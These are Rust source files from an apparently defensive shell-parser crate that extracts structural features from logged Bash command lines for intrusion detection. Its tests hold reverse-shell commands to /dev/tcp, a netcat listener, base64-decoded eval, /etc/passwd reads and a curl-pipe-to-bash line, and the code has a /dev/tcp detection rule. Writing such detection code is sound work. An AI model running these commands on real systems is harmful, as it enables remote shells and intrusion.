            }
            if let Some(e) = &i.else_body {
                walk_script(e, depth, acc);
            }
        }
        Command::Case(c) => {
            acc.compounds += 1;
            walk_units(&c.subject.units, depth, acc);
            for arm in &c.arms {
                for p in &arm.patterns {
                    walk_units(&p.units, depth, acc);
                }
                walk_script(&arm.body, depth, acc);
            }
        }
        Command::FunctionDef(f) => {
            acc.compounds += 1;
            walk_command(&f.body, depth, acc);
        }
    }
}

fn walk_redirect(r: &Redirect, depth: u32, acc: &mut Acc) {
    acc.redirects += 1;
    let raw_len = r.target.raw.chars().count() as u32;
    let text_len = r.target.text.chars().count() as u32;
    acc.quote_delta += raw_len.saturating_sub(text_len);
    if matches!(
        r.op,
        RedirectOp::Heredoc | RedirectOp::HeredocStrip | RedirectOp::HereString
    ) {
        acc.heredocs += 1;
    }
    // /dev/tcp and /dev/udp are bash pseudo-devices used by reverse
    // shells; match on the resolved text so `"/dev/${t:-tcp}/..."` still
    // counts once the target contains the literal path.
    if r.target.text.contains("/dev/tcp") || r.target.text.contains("/dev/udp") {
        acc.suspicious_targets += 1;
    }
    walk_units(&r.target.units, depth, acc);
}

/// A *spliced* word mixes quoted and bare units — the quote-splicing
/// signature (`b"a"sh`, `n'c'`). A fully quoted argument
/// (`"deploy done"`) or a bare word is not spliced; the distinction is
/// what separates quote-splice obfuscation from ordinary benign
/// quoting, which shares its `quoted_words`/`quote_removal_delta`
/// footprint.
fn is_spliced(units: &[WordUnit]) -> bool {
    let mut quoted = false;
    let mut bare = false;
    for unit in units {
        match unit {
            WordUnit::SingleQuoted(_) | WordUnit::DoubleQuoted(_) | WordUnit::AnsiCQuoted(_) => {
                quoted = true
            }
            WordUnit::Literal(_) | WordUnit::Tilde(_) => bare = true,
            _ => {}
        }
    }
    quoted && bare
}

fn walk_units(units: &[WordUnit], depth: u32, acc: &mut Acc) {
    for unit in units {
        match unit {
            WordUnit::Literal(_)
            | WordUnit::SingleQuoted(_)
            | WordUnit::AnsiCQuoted(_)
            | WordUnit::Tilde(_) => {}
            WordUnit::DoubleQuoted(inner) => walk_units(inner, depth, acc),
            WordUnit::Param(p) => {
                acc.params += 1;
                // Operator-bearing expansions (`${x:-n}`, `${v%...}`)
                // are the splice-and-default idiom obfuscation leans
                // on; bare `$PATH`-style references are everyday
                // benign traffic, so the two count separately.
                if p.modifier.is_some() {
                    acc.param_mods += 1;
                }
            }
            WordUnit::Arith(_) => acc.ariths += 1,
            WordUnit::CommandSubst(s) | WordUnit::Backquoted(s) => {
                acc.substs += 1;
                acc.max_depth = acc.max_depth.max(depth + 1);
                if let Some(script) = &s.script {
                    walk_script(script, depth + 1, acc);
                }
            }
            WordUnit::ProcessSubst { subst, .. } => {
                acc.substs += 1;
                acc.max_depth = acc.max_depth.max(depth + 1);
                if let Some(script) = &subst.script {
                    walk_script(script, depth + 1, acc);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn named(v: &[f32; STRUCTURAL_DIM], name: &str) -> f32 {
        let idx = FEATURE_NAMES.iter().position(|n| *n == name).unwrap();
        v[idx]
    }

    #[test]
    fn plain_command_has_minimal_features() {
        let v = line_features("ls -la /tmp");
        assert_eq!(named(&v, "simple_commands"), 1.0);
        assert_eq!(named(&v, "max_pipeline_len"), 1.0);
        assert_eq!(named(&v, "quoted_words"), 0.0);
        assert_eq!(named(&v, "parse_failed"), 0.0);
    }

    #[test]
    fn pipeline_and_connectors_are_counted() {
        let v = line_features("cat /etc/passwd | gzip | base64 && echo ok &");
        assert_eq!(named(&v, "max_pipeline_len"), 3.0);
        assert_eq!(named(&v, "and_or_connectors"), 1.0);
        assert_eq!(named(&v, "background_lists"), 1.0);
        assert_eq!(named(&v, "simple_commands"), 4.0);
    }

    #[test]
    fn reverse_shell_redirect_is_suspicious() {
        let v = line_features("bash -i >&/dev/tcp/10.0.0.1/4444 0>&1");
        assert_eq!(named(&v, "suspicious_redirect_targets"), 1.0);
        assert_eq!(named(&v, "redirects"), 2.0);
    }

    #[test]
    fn expansion_obfuscated_redirect_is_suspicious_after_resolution() {
        // Quote splicing leaves the resolved text readable: the target's
        // `text` still contains the literal /dev/tcp path.
        let v = line_features(r#"bash -i >&"/dev/tcp/1.2.3.4/9001" 0>&1"#);
        assert_eq!(named(&v, "suspicious_redirect_targets"), 1.0);
        assert!(named(&v, "quote_removal_delta") >= 2.0);
    }

    #[test]
    fn substitutions_walk_deep_and_track_depth() {
        let v = line_features("eval $(echo d2hvYW1p | base64 -d)");
        assert_eq!(named(&v, "substitutions"), 1.0);
        assert_eq!(named(&v, "max_subst_depth"), 1.0);
        // eval + the two commands inside the substitution pipeline
        assert_eq!(named(&v, "simple_commands"), 3.0);

        let nested = line_features("echo $(echo $(id))");
        assert_eq!(named(&nested, "max_subst_depth"), 2.0);
    }

    #[test]
    fn quote_splicing_inflates_quote_delta() {
        let plain = line_features("nc -lvnp 4444");
        let spliced = line_features("n'c' -l'v'np 4444");
        assert!(named(&spliced, "quote_removal_delta") > named(&plain, "quote_removal_delta"));
        assert_eq!(named(&spliced, "quoted_words"), 2.0);
        assert_eq!(named(&spliced, "spliced_words"), 2.0);
    }

    #[test]
    fn fully_quoted_words_are_not_spliced() {
        // Ordinary benign quoting: whole-argument quotes leave
        // spliced_words at zero even though quoted_words and the
        // removal delta both fire.
        let v = line_features(r#"echo "deploy 91 done""#);
        assert_eq!(named(&v, "quoted_words"), 1.0);
        assert!(named(&v, "quote_removal_delta") >= 2.0);
        assert_eq!(named(&v, "spliced_words"), 0.0);
        // Mid-word quote transitions are the splice signature.
        let s = line_features(r#"b"a"sh -i"#);
        assert_eq!(named(&s, "spliced_words"), 1.0);
    }

    #[test]
    fn param_and_arith_expansions_are_counted() {
        let v = line_features("echo ${x:-nc} $((1+2)) $HOME");
        assert_eq!(named(&v, "param_expansions"), 2.0);
        assert_eq!(named(&v, "arith_expansions"), 1.0);
        // Only `${x:-nc}` carries an operator; `$HOME` is a bare
        // reference.
        assert_eq!(named(&v, "param_modifiers"), 1.0);
    }

    #[test]
    fn bare_variable_references_carry_no_modifier() {
        let v = line_features("echo $PATH");
        assert_eq!(named(&v, "param_expansions"), 1.0);
        assert_eq!(named(&v, "param_modifiers"), 0.0);
    }

    #[test]
    fn compound_commands_and_heredocs_are_counted() {
        let v = line_features("for f in a b; do cat $f; done");
        assert_eq!(named(&v, "compound_commands"), 1.0);
        let h = line_features("python3 <<'EOF'\nprint(1)\nEOF");
        assert_eq!(named(&h, "heredoc_herestrings"), 1.0);
    }

    #[test]
    fn empty_and_invalid_lines_are_flagged() {
        assert_eq!(line_features("   "), [0.0; STRUCTURAL_DIM]);
        assert_eq!(line_features("# comment"), [0.0; STRUCTURAL_DIM]);
        let bad = line_features("/*/*/* -> /*/*/* ->");
        assert_eq!(named(&bad, "parse_failed"), 1.0);
        assert_eq!(named(&bad, "simple_commands"), 0.0);
    }

    #[test]
    fn feature_names_cover_every_dimension() {
        assert_eq!(FEATURE_NAMES.len(), STRUCTURAL_DIM);
        let mut sorted: Vec<&str> = FEATURE_NAMES.to_vec();
        sorted.sort_unstable();
        sorted.dedup();
        assert_eq!(sorted.len(), STRUCTURAL_DIM, "duplicate feature name");
    }
}
