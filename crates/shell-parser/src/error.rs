//! Error types for lexing and parsing command lines.

use std::error::Error;
use std::fmt;

/// An error produced while splitting a command line into tokens.
///
/// Lex errors correspond to lines that Bash itself would refuse at read
/// time, such as an unterminated quote. In the paper's preprocessing stage
/// such lines are dropped from further analysis.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LexError {
    /// A single (`'`), double (`"`) or ANSI-C (`$'`) quote was never closed.
    UnterminatedQuote {
        /// The quote character that was left open.
        quote: char,
        /// Byte offset where the quote started.
        at: usize,
    },
    /// A `$(`, `` ` `` or `<(`/`>(` substitution was never closed.
    UnterminatedSubstitution {
        /// Byte offset where the substitution started.
        at: usize,
    },
    /// A backslash appeared as the final character of the line.
    TrailingBackslash,
}

impl fmt::Display for LexError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            LexError::UnterminatedQuote { quote, at } => {
                write!(f, "unterminated {quote} quote starting at byte {at}")
            }
            LexError::UnterminatedSubstitution { at } => {
                write!(f, "unterminated substitution starting at byte {at}")
            }
            LexError::TrailingBackslash => write!(f, "trailing backslash at end of input"),
        }
    }
}

impl Error for LexError {}

/// An error produced while parsing a token stream into a [`crate::Script`].
///
/// Parse errors correspond to syntactically invalid lines — exactly the
/// class of data the paper's Figure 2 removes with the Bash parser.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParseError {
    /// The lexer rejected the input before parsing could begin.
    Lex(LexError),
    /// An operator appeared where a command was expected
    /// (e.g. `| foo`, `&& bar`, `; ;`).
    UnexpectedOperator {
        /// Rendered form of the offending operator.
        operator: String,
    },
    /// A redirection operator was not followed by a target word
    /// (e.g. the trailing `>` lexed out of the paper's `... ->` example).
    MissingRedirectTarget {
        /// Rendered form of the redirection operator.
        operator: String,
    },
    /// Input ended while a construct was still open (e.g. `foo &&`).
    UnexpectedEnd,
    /// A closing `)` or `}` had no matching opener.
    UnbalancedGroup {
        /// The unmatched closing delimiter.
        delimiter: char,
    },
    /// A subshell or group was opened but never closed.
    UnclosedGroup {
        /// The opening delimiter that is missing its closer.
        delimiter: char,
    },
    /// A reserved word appeared where it cannot (e.g. `then` with no
    /// `if`, `done` with no loop).
    MisplacedKeyword {
        /// The offending reserved word.
        keyword: String,
    },
    /// A compound command was missing one of its required reserved
    /// words (e.g. `if` without `then`, `for` without `done`).
    MissingKeyword {
        /// The reserved word that was expected.
        keyword: String,
    },
    /// The line contained no commands at all (empty or comment-only).
    ///
    /// Empty lines are not *invalid* shell, but they carry no signal for
    /// intrusion detection, so the parser reports them distinctly.
    Empty,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ParseError::Lex(e) => write!(f, "lex error: {e}"),
            ParseError::UnexpectedOperator { operator } => {
                write!(f, "unexpected operator `{operator}`")
            }
            ParseError::MissingRedirectTarget { operator } => {
                write!(f, "redirection `{operator}` has no target")
            }
            ParseError::UnexpectedEnd => write!(f, "unexpected end of input"),
            ParseError::UnbalancedGroup { delimiter } => {
                write!(f, "unbalanced closing `{delimiter}`")
            }
            ParseError::UnclosedGroup { delimiter } => {
                write!(f, "unclosed group starting with `{delimiter}`")
            }
            ParseError::MisplacedKeyword { keyword } => {
                write!(f, "misplaced keyword `{keyword}`")
            }
            ParseError::MissingKeyword { keyword } => {
                write!(f, "expected keyword `{keyword}`")
            }
            ParseError::Empty => write!(f, "empty command line"),
        }
    }
}

impl Error for ParseError {
    fn source(&self) -> Option<&(dyn Error + 'static)> {
        match self {
            ParseError::Lex(e) => Some(e),
            _ => None,
        }
    }
}

impl From<LexError> for ParseError {
    fn from(e: LexError) -> Self {
        ParseError::Lex(e)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_is_lowercase_and_unpunctuated() {
        let msgs = [
            LexError::UnterminatedQuote { quote: '\'', at: 3 }.to_string(),
            LexError::TrailingBackslash.to_string(),
            ParseError::UnexpectedEnd.to_string(),
            ParseError::Empty.to_string(),
        ];
        for m in msgs {
            assert!(!m.ends_with('.'), "message {m:?} ends with punctuation");
            assert!(m.chars().next().unwrap().is_lowercase());
        }
    }

    #[test]
    fn lex_error_converts_to_parse_error() {
        let e: ParseError = LexError::TrailingBackslash.into();
        assert_eq!(e, ParseError::Lex(LexError::TrailingBackslash));
    }

    #[test]
    fn parse_error_source_chains_to_lex_error() {
        let e: ParseError = LexError::TrailingBackslash.into();
        assert!(std::error::Error::source(&e).is_some());
        assert!(std::error::Error::source(&ParseError::Empty).is_none());
    }
}
