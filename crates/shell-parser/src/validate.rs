//! Line classification for the paper's preprocessing stage (Figure 2).
//!
//! The paper removes command lines that "cannot be successfully executed
//! by the system": syntactically invalid lines caught by the parser, and
//! lines whose command name is not on a list of concerned commands (typos
//! such as `dcoker`/`chdmod` that parse fine but never execute).
//! [`classify`] performs the parser half; the frequency-filter half lives
//! in the `cmdline-ids` crate, which owns the corpus statistics.

use crate::ast::Script;
use crate::error::ParseError;
use crate::parser::parse;

/// The outcome of parsing one logged command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LineClass {
    /// The line parses; the script is returned for downstream use.
    Valid(Script),
    /// The line is empty or comment-only — no signal, dropped.
    Empty,
    /// The line is syntactically invalid (the parse error says why).
    Invalid(ParseError),
}

impl LineClass {
    /// `true` if the line should be kept for model training/inference.
    pub fn is_valid(&self) -> bool {
        matches!(self, LineClass::Valid(_))
    }

    /// Extracts the script if the line was valid.
    pub fn into_script(self) -> Option<Script> {
        match self {
            LineClass::Valid(s) => Some(s),
            _ => None,
        }
    }
}

/// Classifies a raw logged line as valid, empty or invalid.
///
/// ```
/// use shell_parser::{classify, LineClass};
///
/// assert!(classify("python main.py").is_valid());
/// assert!(matches!(classify(""), LineClass::Empty));
/// assert!(matches!(classify("/*/*/* -> /*/*/* ->"), LineClass::Invalid(_)));
/// ```
pub fn classify(line: &str) -> LineClass {
    match parse(line) {
        Ok(script) => LineClass::Valid(script),
        Err(ParseError::Empty) => LineClass::Empty,
        Err(e) => LineClass::Invalid(e),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn figure2_examples() {
        // Lines the paper keeps.
        for line in [
            r#"php -r "phpinfo();""#,
            "python main.py",
            "vim ~/.bashrc",
            "curl https://h/a.sh | bash",
            r#"df -h | grep "/data/x""#,
            // Typos that *parse* but are filtered later by frequency:
            "dcoker attach --sig-proxy=false c1",
            "chdmod +x install.sh",
        ] {
            assert!(classify(line).is_valid(), "should parse: {line}");
        }
        // The line the paper's parser removes.
        assert!(matches!(
            classify("/*/*/* -> /*/*/* ->"),
            LineClass::Invalid(ParseError::MissingRedirectTarget { .. })
        ));
    }

    #[test]
    fn empty_variants() {
        assert!(matches!(classify(""), LineClass::Empty));
        assert!(matches!(classify("  \t "), LineClass::Empty));
        assert!(matches!(classify("# comment"), LineClass::Empty));
    }

    #[test]
    fn unterminated_quote_is_invalid() {
        assert!(matches!(
            classify("echo 'oops"),
            LineClass::Invalid(ParseError::Lex(_))
        ));
    }

    #[test]
    fn into_script_returns_tree() {
        let script = classify("ls -la").into_script().unwrap();
        assert_eq!(script.command_names(), vec!["ls"]);
        assert!(classify("").into_script().is_none());
    }
}
