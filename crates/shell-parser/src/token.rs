//! Token types produced by the [lexer](crate::lexer).

use crate::word::WordUnit;
use serde::{Deserialize, Serialize};
use std::fmt;
use std::hash::{Hash, Hasher};

/// How a word was quoted in the original input.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Quoting {
    /// No quoting at all (`foo`).
    #[default]
    None,
    /// Entirely single-quoted (`'foo'`).
    Single,
    /// Entirely double-quoted (`"foo"`).
    Double,
    /// A mix of quoted and unquoted segments (`fo'o'"x"`).
    Mixed,
}

/// A shell word: the unquoted text plus the raw source slice.
///
/// `text` has quotes and backslash escapes resolved; `raw` is the exact
/// substring of the input, which the normalizer uses for faithful
/// re-rendering.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Word {
    /// Unquoted, unescaped text of the word.
    pub text: String,
    /// Exact source characters including quotes.
    pub raw: String,
    /// Quote style observed for the word.
    pub quoting: Quoting,
    /// The syntax-layer structure of the word: the sequence of
    /// literal/quoted/expansion units the source characters form.
    pub units: Vec<WordUnit>,
}

/// `units` is derived from `raw`, so hashing the scalar fields keeps
/// `a == b ⇒ hash(a) == hash(b)` while sparing every map insertion a
/// deep traversal of the unit tree.
impl Hash for Word {
    fn hash<H: Hasher>(&self, state: &mut H) {
        self.text.hash(state);
        self.raw.hash(state);
        self.quoting.hash(state);
    }
}

impl Word {
    /// Creates an unquoted word whose `raw` equals its `text`.
    pub fn plain(text: impl Into<String>) -> Self {
        let text = text.into();
        let units = if text.is_empty() {
            Vec::new()
        } else {
            vec![WordUnit::Literal(text.clone())]
        };
        Word {
            raw: text.clone(),
            text,
            quoting: Quoting::None,
            units,
        }
    }

    /// Returns `true` if the word looks like a command-line flag
    /// (`-v`, `--rate=1000`), i.e. starts with `-` and is not just `-`.
    ///
    /// Quoted words are never flags: `"-x"` passed as data stays data.
    pub fn is_flag(&self) -> bool {
        self.quoting == Quoting::None && self.text.len() > 1 && self.text.starts_with('-')
    }

    /// Returns `true` if the word contains glob metacharacters (`*?[`).
    pub fn has_glob(&self) -> bool {
        self.quoting == Quoting::None && self.text.chars().any(|c| matches!(c, '*' | '?' | '['))
    }
}

impl fmt::Display for Word {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.raw)
    }
}

/// A shell control operator.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Operator {
    /// `|`
    Pipe,
    /// `|&` (pipe stdout+stderr)
    PipeAmp,
    /// `&&`
    AndIf,
    /// `||`
    OrIf,
    /// `;`
    Semi,
    /// `;;` (case terminator; treated as a sequencing error outside `case`)
    DoubleSemi,
    /// `&`
    Amp,
    /// `<`
    Less,
    /// `>`
    Great,
    /// `>>`
    DGreat,
    /// `<<` (heredoc)
    DLess,
    /// `<<-` (heredoc, leading tabs stripped)
    DLessDash,
    /// `<<<` (here-string)
    TLess,
    /// `<&`
    LessAnd,
    /// `>&`
    GreatAnd,
    /// `<>`
    LessGreat,
    /// `>|`
    Clobber,
    /// `(`
    LParen,
    /// `)`
    RParen,
}

impl Operator {
    /// Returns `true` for operators that begin a redirection.
    pub fn is_redirect(self) -> bool {
        matches!(
            self,
            Operator::Less
                | Operator::Great
                | Operator::DGreat
                | Operator::DLess
                | Operator::DLessDash
                | Operator::TLess
                | Operator::LessAnd
                | Operator::GreatAnd
                | Operator::LessGreat
                | Operator::Clobber
        )
    }

    /// The literal source text of the operator.
    pub fn as_str(self) -> &'static str {
        match self {
            Operator::Pipe => "|",
            Operator::PipeAmp => "|&",
            Operator::AndIf => "&&",
            Operator::OrIf => "||",
            Operator::Semi => ";",
            Operator::DoubleSemi => ";;",
            Operator::Amp => "&",
            Operator::Less => "<",
            Operator::Great => ">",
            Operator::DGreat => ">>",
            Operator::DLess => "<<",
            Operator::DLessDash => "<<-",
            Operator::TLess => "<<<",
            Operator::LessAnd => "<&",
            Operator::GreatAnd => ">&",
            Operator::LessGreat => "<>",
            Operator::Clobber => ">|",
            Operator::LParen => "(",
            Operator::RParen => ")",
        }
    }
}

impl fmt::Display for Operator {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One lexical token of a command line.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Token {
    /// A word (command name, flag, argument, assignment, …).
    Word(Word),
    /// A control or redirection operator.
    Op(Operator),
    /// A file-descriptor number immediately preceding a redirection
    /// (the `2` of `2>/dev/null`).
    IoNumber(u32),
    /// A line break between commands (multi-line scripts).
    Newline,
    /// The body of a here-document, collected from the lines after the
    /// operator line and queued right after the [`Token::Newline`] that
    /// ended it.
    HeredocBody(String),
}

impl Token {
    /// Returns the contained word, if this token is a word.
    pub fn as_word(&self) -> Option<&Word> {
        match self {
            Token::Word(w) => Some(w),
            _ => None,
        }
    }

    /// Returns the contained operator, if this token is an operator.
    pub fn as_op(&self) -> Option<Operator> {
        match self {
            Token::Op(op) => Some(*op),
            _ => None,
        }
    }
}

impl fmt::Display for Token {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Token::Word(w) => w.fmt(f),
            Token::Op(op) => op.fmt(f),
            Token::IoNumber(n) => write!(f, "{n}"),
            Token::Newline => f.write_str("newline"),
            Token::HeredocBody(_) => f.write_str("here-document"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_word_has_matching_raw() {
        let w = Word::plain("ls");
        assert_eq!(w.text, "ls");
        assert_eq!(w.raw, "ls");
        assert_eq!(w.quoting, Quoting::None);
    }

    #[test]
    fn flag_detection() {
        assert!(Word::plain("-v").is_flag());
        assert!(Word::plain("--rate=1000").is_flag());
        assert!(!Word::plain("-").is_flag());
        assert!(!Word::plain("ls").is_flag());
        let quoted = Word {
            text: "-x".into(),
            raw: "'-x'".into(),
            quoting: Quoting::Single,
            units: vec![WordUnit::SingleQuoted("-x".into())],
        };
        assert!(!quoted.is_flag());
    }

    #[test]
    fn glob_detection() {
        assert!(Word::plain("*.sh").has_glob());
        assert!(Word::plain("a?b").has_glob());
        assert!(!Word::plain("plain").has_glob());
    }

    #[test]
    fn operator_strings_round_trip() {
        for op in [
            Operator::Pipe,
            Operator::PipeAmp,
            Operator::AndIf,
            Operator::OrIf,
            Operator::Semi,
            Operator::DoubleSemi,
            Operator::Amp,
            Operator::Less,
            Operator::Great,
            Operator::DGreat,
            Operator::DLess,
            Operator::DLessDash,
            Operator::TLess,
            Operator::LessAnd,
            Operator::GreatAnd,
            Operator::LessGreat,
            Operator::Clobber,
            Operator::LParen,
            Operator::RParen,
        ] {
            assert_eq!(format!("{op}"), op.as_str());
        }
    }

    #[test]
    fn redirect_classification() {
        assert!(Operator::Great.is_redirect());
        assert!(Operator::TLess.is_redirect());
        assert!(!Operator::Pipe.is_redirect());
        assert!(!Operator::LParen.is_redirect());
    }
}
