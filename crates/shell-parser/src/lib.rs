//! A Bash command-line lexer and parser.
//!
//! This crate is the workspace's substitute for the Python
//! [`bashlex`](https://github.com/idank/bashlex) library used by the paper
//! *"Intrusion Detection at Scale with the Assistance of a Command-line
//! Language Model"* (DSN 2024) to pre-process logged command lines
//! (Section II-A, Figure 2). It converts a raw command line into a tree of
//! command nodes, separating **command names** from **flags** and
//! **arguments**, and it rejects lines that Bash itself could never execute
//! (e.g. the paper's `/*/*/* -> /*/*/* ->` example, whose dangling
//! redirection operator makes it unparseable).
//!
//! # Example
//!
//! ```
//! use shell_parser::parse;
//!
//! let script = parse("curl https://x/a.sh | bash")?;
//! let names = script.command_names();
//! assert_eq!(names, vec!["curl", "bash"]);
//! # Ok::<(), shell_parser::ParseError>(())
//! ```
//!
//! The grammar covered is the subset of POSIX shell + common Bash that
//! matters for intrusion-detection preprocessing: simple commands,
//! assignments, pipelines (`|`, `|&`), and-or lists (`&&`, `||`),
//! sequencing (`;`, `&`, newline), redirections (including fd-prefixed and
//! here-strings), subshells, brace groups, quoting (single, double,
//! backslash, `$'..'`), command/process substitution and comments.

pub mod ast;
pub mod error;
pub mod lexer;
pub mod normalize;
pub mod parser;
pub mod token;
pub mod validate;

pub use ast::{
    Assignment, Command, Connector, Pipeline, Redirect, RedirectOp, Script, SimpleCommand,
};
pub use error::{LexError, ParseError};
pub use lexer::Lexer;
pub use normalize::{mask_arguments, render};
pub use parser::{parse, Parser};
pub use token::{Operator, Quoting, Token, Word};
pub use validate::{classify, LineClass};
