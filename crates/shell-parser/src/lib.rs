//! A layered Bash command-line lexer and parser.
//!
//! This crate is the workspace's substitute for the Python
//! [`bashlex`](https://github.com/idank/bashlex) library used by the paper
//! *"Intrusion Detection at Scale with the Assistance of a Command-line
//! Language Model"* (DSN 2024) to pre-process logged command lines
//! (Section II-A, Figure 2). It converts a raw command line into a tree of
//! command nodes, separating **command names** from **flags** and
//! **arguments**, and it rejects lines that Bash itself could never execute
//! (e.g. the paper's `/*/*/* -> /*/*/* ->` example, whose dangling
//! redirection operator makes it unparseable).
//!
//! # Architecture
//!
//! The crate is split into three layers, modeled on `yash-syntax`:
//!
//! 1. **Lexer layer** ([`lexer`], [`token`]) — characters to tokens.
//!    Handles quoting, operators, comments, io-numbers and here-document
//!    body collection after the operator line.
//! 2. **Syntax / word layer** ([`word`]) — each [`Word`] carries, besides
//!    its flat `text`/`raw` forms, a recursive sequence of [`WordUnit`]s:
//!    literals, quoted segments, tildes, parameter expansions with
//!    modifiers (`${v:-d}`, `${v##p}`, `${v//a/b}`), arithmetic
//!    (`$((…))`), command/backquote substitution and process
//!    substitution. Substitution bodies are recursively parsed into
//!    nested [`Script`]s.
//! 3. **Command layer** ([`parser`], [`ast`]) — tokens to a [`Script`]:
//!    simple commands, pipelines, and-or lists (precedence climbing),
//!    redirections with attached here-doc bodies, subshells, brace
//!    groups, `for`/`while`/`until`/`if`/`case` compound commands and
//!    function definitions.
//!
//! On top of the tree, [`normalize`] re-renders and masks command lines
//! (`parse(render(ast)) ≡ ast`), [`validate`] classifies lines the way
//! the paper's validity filter does, and [`features`] extracts a fixed
//! structural feature vector used by the anomaly ensemble's structural
//! side-channel detector.
//!
//! # Example
//!
//! ```
//! use shell_parser::parse;
//!
//! let script = parse("curl https://x/a.sh | bash")?;
//! let names = script.command_names();
//! assert_eq!(names, vec!["curl", "bash"]);
//! # Ok::<(), shell_parser::ParseError>(())
//! ```

pub mod ast;
pub mod error;
pub mod features;
pub mod lexer;
pub mod normalize;
pub mod parser;
pub mod token;
pub mod validate;
pub mod word;

pub use ast::{
    Assignment, CaseArm, CaseClause, Command, Connector, ForClause, FunctionDef, IfClause,
    LoopClause, Pipeline, Redirect, RedirectOp, Script, SimpleCommand,
};
pub use error::{LexError, ParseError};
pub use features::{line_features, script_features, FEATURE_NAMES, STRUCTURAL_DIM};
pub use lexer::Lexer;
pub use normalize::{mask_arguments, render};
pub use parser::{parse, Parser};
pub use token::{Operator, Quoting, Token, Word};
pub use validate::{classify, LineClass};
pub use word::{ParamExpansion, ParamModifier, SubstDirection, Substitution, WordUnit};
