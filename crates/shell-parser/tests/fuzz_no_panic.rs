//! Fuzz-style property suite: `parse` is total over arbitrary byte
//! strings.
//!
//! Logged command lines arrive from the wire as raw bytes; the
//! preprocessing pipeline lossily decodes them to UTF-8 and hands them
//! to the parser. Whatever those bytes are — truncated multi-byte
//! sequences, control characters, unbalanced quoting, half-open
//! substitutions, here-doc operators with no body — `parse` must return
//! `Ok` or a typed [`ParseError`], never panic.
//!
//! CI runs this suite in release mode with `PROPTEST_CASES=2048`.

use proptest::prelude::*;
use shell_parser::{classify, parse, render, LexError, ParseError};

proptest! {
    /// Arbitrary bytes, lossily decoded, never panic the parser.
    #[test]
    fn arbitrary_bytes_never_panic(bytes in prop::collection::vec(0u8..=255u8, 0..256)) {
        let line = String::from_utf8_lossy(&bytes);
        let _ = parse(&line);
        let _ = classify(&line);
    }

    /// Shell-flavored byte soup (operators, quotes, dollars, braces,
    /// newlines, tabs) — the worst case for the layered lexer.
    #[test]
    fn shell_flavored_soup_never_panics(line in r#"[a-z0-9 \t\n'"\\$`(){}<>|&;!#~=/*?-]{0,200}"#) {
        let _ = parse(&line);
    }

    /// Valid parses survive a render round trip without panicking, and
    /// the rendered form stays parseable.
    #[test]
    fn rendered_output_reparses(line in r#"[a-z0-9 '"$(){}<>|&;]{0,120}"#) {
        if let Ok(script) = parse(&line) {
            let rendered = render(&script);
            let again = parse(&rendered).expect("render produced unparseable output");
            prop_assert_eq!(render(&again), rendered);
        }
    }
}

#[test]
fn unterminated_constructs_yield_typed_errors() {
    // Unterminated quotes.
    assert!(matches!(
        parse("echo 'oops"),
        Err(ParseError::Lex(LexError::UnterminatedQuote {
            quote: '\'',
            ..
        }))
    ));
    assert!(matches!(
        parse("echo \"oops"),
        Err(ParseError::Lex(LexError::UnterminatedQuote {
            quote: '"',
            ..
        }))
    ));
    assert!(matches!(
        parse("echo $'oops"),
        Err(ParseError::Lex(LexError::UnterminatedQuote { .. }))
    ));
    // Unterminated substitutions.
    assert!(matches!(
        parse("echo $(ls"),
        Err(ParseError::Lex(LexError::UnterminatedSubstitution { .. }))
    ));
    assert!(matches!(
        parse("echo `ls"),
        Err(ParseError::Lex(LexError::UnterminatedSubstitution { .. }))
    ));
    // Dangling compound constructs.
    assert!(matches!(
        parse("if true; then echo x"),
        Err(ParseError::MissingKeyword { .. })
    ));
    assert!(matches!(
        parse("case $x in a) echo x"),
        Err(ParseError::MissingKeyword { .. })
    ));
    // A here-doc operator with no delimiter word at all.
    assert!(parse("cat <<").is_err());
}

#[test]
fn pathological_nesting_is_bounded() {
    // Substitution nesting far past MAX_SUBST_DEPTH must neither panic
    // nor loop; the inner scripts simply stop being filled in.
    let mut line = String::from("echo ");
    for _ in 0..64 {
        line.push_str("$(echo ");
    }
    line.push('x');
    for _ in 0..64 {
        line.push(')');
    }
    let _ = parse(&line);

    // Deep subshell nesting likewise.
    let mut parens = String::new();
    for _ in 0..64 {
        parens.push('(');
    }
    parens.push_str("ls");
    for _ in 0..64 {
        parens.push(')');
    }
    let _ = parse(&parens);
}
