//! Property-based tests for the shell parser.

use proptest::prelude::*;
use shell_parser::{classify, parse, render, Lexer};

proptest! {
    /// The lexer must never panic, whatever bytes arrive in the log.
    #[test]
    fn lexer_never_panics(input in ".{0,200}") {
        let _ = Lexer::tokenize(&input);
    }

    /// The parser must never panic either.
    #[test]
    fn parser_never_panics(input in ".{0,200}") {
        let _ = parse(&input);
    }

    /// classify agrees with parse on validity.
    #[test]
    fn classify_consistent_with_parse(input in ".{0,120}") {
        let c = classify(&input);
        match parse(&input) {
            Ok(_) => prop_assert!(c.is_valid()),
            Err(_) => prop_assert!(!c.is_valid()),
        }
    }

    /// Rendering a parsed script and re-parsing it yields a stable string
    /// (render ∘ parse is idempotent on its image).
    #[test]
    fn render_is_idempotent(
        words in prop::collection::vec("[a-z][a-z0-9/._-]{0,8}", 1..6),
        seps in prop::collection::vec(prop::sample::select(vec![" ", " | ", " && ", " ; "]), 0..5),
    ) {
        // Build a syntactically valid line from plain words and separators.
        let mut line = String::new();
        for (i, w) in words.iter().enumerate() {
            if i > 0 {
                line.push_str(seps.get(i - 1).copied().unwrap_or(" "));
